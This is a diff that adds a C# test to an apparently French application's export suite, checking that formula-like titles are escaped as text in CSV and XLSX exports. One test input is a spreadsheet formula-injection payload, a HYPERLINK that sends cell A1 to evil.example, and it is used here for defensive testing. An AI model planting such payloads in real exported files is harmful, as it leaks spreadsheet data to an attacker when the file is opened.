@@ -43,4 +43,36 @@ public sealed class ExportEntriesTests(AppFixture app) : AppTest(app)
         Assert.All(rows, r => Assert.Equal("Idée", r["Type"]));
         Assert.Equal(["Un annuaire des compétences", "Un registre partagé"], rows.Select(r => (string)r["Titre"]).Order());
     }
+
+    [Fact]
+    public async Task Titles_that_look_like_formulas_are_written_as_text_in_csv_and_excel()
+    {
+        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")";
+        var unit = await Given.AUnit("@Service");
+        var plain = await Given.AnEntry(title: "Une idée ordinaire", unit: unit);
+        var formulas = new[] { formula, "+33 1 23", "-2 jours de congé", "@SUM(A1:A9)", "\tTabulation" };
+        var ids = new List<int>();
+        foreach (var title in formulas) ids.Add(await Given.AnEntry(title: title, unit: unit));
+        await Given.Votes(plain, await Given.AnAgent());
+        var client = await SignInAsync(await Given.AnAgent());
+
+        var csv = await Downloads.Csv(await client.Http.GetAsync("/Entries?handler=Export&format=Csv&sort=Newest"));
+        var byId = csv.Skip(1).ToDictionary(r => r[0]);
+        for (var i = 0; i < formulas.Length; i++) Assert.Equal("'" + formulas[i], byId[$"{ids[i]}"][2]);
+        Assert.Equal("Une idée ordinaire", byId[$"{plain}"][2]);
+        Assert.Equal("'@Service", byId[$"{plain}"][4]);
+        Assert.Equal("1", byId[$"{plain}"][7]);
+
+        var xlsx = await client.Http.GetAsync("/Entries?handler=Export&format=Xlsx&sort=Newest");
+        var bytes = await xlsx.Content.ReadAsByteArrayAsync();
+        using var stream = new MemoryStream(bytes);
+        var rows = stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToDictionary(r => Convert.ToInt32(r["Numéro"], System.Globalization.CultureInfo.InvariantCulture));
+        for (var i = 0; i < formulas.Length; i++) Assert.Equal("'" + formulas[i], rows[ids[i]]["Titre"]);
+        // No cell of the workbook is a formula.
+        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(bytes));
+        var sheet = new StreamReader(zip.Entries.Single(e => e.FullName == "xl/worksheets/sheet1.xml").Open()).ReadToEnd();
+        Assert.Contains("HYPERLINK", sheet);
+        Assert.DoesNotContain("<x:f>", sheet);
+        Assert.DoesNotContain("<f>", sheet);
+    }
 }
